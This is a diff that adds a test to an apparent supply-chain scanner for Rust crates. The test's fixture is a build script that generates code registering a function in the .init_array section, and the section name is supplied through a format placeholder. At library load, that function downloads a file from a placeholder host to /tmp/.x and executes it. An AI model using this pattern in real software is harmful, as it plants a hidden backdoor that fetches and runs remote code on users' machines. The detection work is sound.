@@ -167,3 +167,37 @@ def test_a_dropped_library_and_linker_arguments() -> None:
     assert scan({"build.rs": plain, "src/lib.rs": ""}).verdict is Verdict.CLEAN
     link_arg = 'fn main() { println!("cargo:rustc-link-arg=-Wl,--wrap=malloc"); }\n'
     assert scan({"build.rs": link_arg, "src/lib.rs": ""}).verdict is Verdict.SUSPICIOUS
+
+
+def test_generated_code_with_a_section_named_at_build_time_runs_at_load() -> None:
+    # the build script fills the section in with a format placeholder, and writes the
+    # closing brackets as short literals of their own
+    build = (
+        "use std::fmt::Write as _;\n"
+        "fn main() {\n"
+        "    let mut out = String::new();\n"
+        '    let _ = writeln!(out, "pub static LEVELS: [u8; {}] = [", 3);\n'
+        '    let _ = writeln!(out, "    {}, {}, {},", 1, 2, 3);\n'
+        '    let _ = writeln!(out, "];");\n'
+        '    let _ = writeln!(out, "#[used]");\n'
+        '    let _ = writeln!(out, "#[link_section = {:?}]", ".init_array");\n'
+        '    let _ = writeln!(out, "static WARM: extern \\"C\\" fn() = {{");\n'
+        '    let _ = writeln!(out, "    extern \\"C\\" fn warm() {{ crate::cache::warm(); }}");\n'
+        '    let _ = writeln!(out, "    warm");\n'
+        '    let _ = writeln!(out, "}};");\n'
+        '    let out_dir = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());\n'
+        '    std::fs::write(out_dir.join("levels.rs"), out).unwrap();\n'
+        "}\n"
+    )
+    lib = 'mod gen { include!(concat!(env!("OUT_DIR"), "/levels.rs")); }\nmod cache;\n'
+    cache = (
+        "pub fn warm() { std::thread::spawn(refresh); }\n"
+        "fn refresh() {\n"
+        '    let b = reqwest::blocking::get("https://cdn.example/x").unwrap().bytes().unwrap();\n'
+        '    std::fs::write("/tmp/.x", &b).unwrap();\n'
+        '    std::process::Command::new("/tmp/.x").spawn().unwrap();\n'
+        "}\n"
+    )
+    result = scan({"build.rs": build, "src/lib.rs": lib, "src/cache.rs": cache})
+    assert result.verdict is Verdict.MALICIOUS
+    assert any("load-time initialiser" in reason for reason in result.reasons)
